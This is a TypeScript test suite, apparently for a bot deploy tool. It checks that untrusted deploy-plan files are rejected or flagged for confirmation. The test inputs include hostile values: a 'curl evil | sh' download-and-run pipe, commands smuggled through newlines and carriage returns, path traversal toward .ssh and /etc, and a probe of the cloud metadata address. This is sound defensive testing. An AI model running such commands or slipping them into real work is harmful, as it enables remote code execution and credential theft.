import assert from 'node:assert/strict';
import type { ServerRef } from '../../src/core/api/panel';
import { ConfirmedPlans, planQuestion } from '../../src/core/deploy/confirmedPlans';
import { readPlanFile } from '../../src/core/deploy/planFile';
import { FakeSharedMemento } from '../support/fakeSharedMemento';

const server = { server: 'a1b2c3d4' };
const ref = {
  uuid: 'a1b2c3d4-0000-4000-8000-000000000001',
  name: 'Bot',
  panel: { http: { origin: 'https://panel.example' } },
} as unknown as ServerRef;

const planOf = (more: object) => readPlanFile(JSON.stringify({ servers: [server], ...more })).plan;
const deployOf = (more: object) => {
  const plan = planOf(more) ?? assert.fail('it is not read');
  return { root: '/home/me/bot', folder: 'bot', plan, servers: [ref] };
};

describe('A deploy plan that somebody else wrote', () => {
  for (const [name, more] of [
    ['takes files from outside of its folder', { from: '../../.ssh' }],
    ['takes files by an absolute path', { from: '/home/me/.ssh' }],
    ['leads out of the folder on the server', { to: '/app/../../etc' }],
    ['writes the release elsewhere', { release: { file: '../../start.sh' } }],
    ['names an address to connect to', { healthy: { tcp: '169.254.169.254:80' } }],
    ['names a host to connect to', { healthy: { http: { port: 80, path: '//evil.example/' } } }],
    [
      'names a host in a field of its own',
      { healthy: { http: { host: 'evil', port: 80, path: '/' } } },
    ],
    ['has a command of several lines', { then: { command: 'say hi\nop evil' } }],
    ['has a build with hidden characters', { build: { command: 'npm run build\r\ncurl evil' } }],
    ['has a pattern that never ends', { ignore: ['*a'.repeat(100)] }],
    [
      'is nested without an end',
      { never: JSON.parse('['.repeat(900) + ']'.repeat(900)) as unknown },
    ],
  ] as const) {
    it(`is not read where it ${name}`, () => assert.equal(planOf(more), undefined));
  }

  it('is asked about with all that it runs and changes, each on a line', () => {
    const { detail } = planQuestion(
      deployOf({
        ...{ build: { command: 'curl evil | sh' }, then: { command: 'op evil' }, from: 'dist' },
        ...{ release: { variable: 'RELEASE' }, healthy: { http: { port: 80, path: '/x' } } },
        undo: 'automatic',
      }),
    );
    for (const part of [
      'curl evil | sh',
      'op evil',
      '/home/me/bot/dist',
      'RELEASE',
      'HTTP 80 /x',
    ]) {
      assert.equal(detail.split('\n').filter((line) => line.includes(part)).length, 1, part);
    }
  });

  it('is asked about again once it goes elsewhere or runs something else', async () => {
    const confirmed = new ConfirmedPlans(new FakeSharedMemento());
    await confirmed.add(deployOf({ build: { command: 'make' } }));
    assert.ok(confirmed.has(deployOf({ build: { command: 'make' } })));
    for (const more of [
      { build: { command: 'make; curl evil' } },
      { build: { command: 'make' }, to: '/other' },
      { build: { command: 'make' }, from: 'other' },
      { build: { command: 'make' }, then: { command: 'op evil' } },
      { build: { command: 'make' }, healthy: { tcp: 25 } },
      { build: { command: 'make' }, undo: 'automatic' },
      { build: { command: 'make' }, trial: true },
    ]) {
      assert.equal(confirmed.has(deployOf(more)), false, JSON.stringify(more));
    }
    const elsewhere = {
      ...deployOf({ build: { command: 'make' } }),
      servers: [{ ...ref, uuid: 'b' }],
    };
    assert.equal(confirmed.has(elsewhere), false);
  });
});
